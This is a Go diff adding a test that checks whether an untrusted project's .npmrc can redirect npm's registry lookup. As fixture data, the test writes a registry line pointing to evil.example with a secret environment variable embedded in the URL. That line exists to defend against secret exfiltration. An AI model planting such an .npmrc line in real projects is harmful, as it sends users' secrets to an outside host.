@@ -6,6 +6,7 @@ import (
 	"errors"
 	"fmt"
 	"os"
+	"os/exec"
 	"path/filepath"
 	"regexp"
 	"slices"
@@ -335,5 +336,23 @@ func TestAlone(t *testing.T) {
 	}
 	if _, err := Alone("forge.toml", nil, "", nil); !errors.Is(err, ErrNotClient) {
 		t.Errorf("forge.toml: %v", err)
+	}
+}
+
+// TestForeignProject: a project that came with somebody's folder does not choose the registry, nor have npm put the user's
+// variables into its address, which is asked for versions before anybody has agreed to anything.
+func TestForeignProject(t *testing.T) {
+	npm, err := exec.LookPath("npm")
+	if err != nil {
+		testkit.Skip(t, "npm is not installed")
+	}
+	t.Chdir(t.TempDir())
+	testkit.Must(t, os.WriteFile("package.json", []byte("{}"), 0o600))
+	testkit.Must(t, os.WriteFile(".npmrc", []byte("registry=https://evil.example/${SECRET}/\n"), 0o600))
+	t.Setenv("HOME", t.TempDir())
+	environ := []string{"PATH=" + filepath.Dir(npm) + ":/usr/local/bin:/usr/bin:/bin", "HOME=" + os.Getenv("HOME"), "SECRET=hunter2"}
+	registry, err := FromNPM(t.Context(), environ)
+	if err != nil || strings.Contains(string(registry), "evil") {
+		t.Errorf("%q, %v", registry, err)
 	}
 }
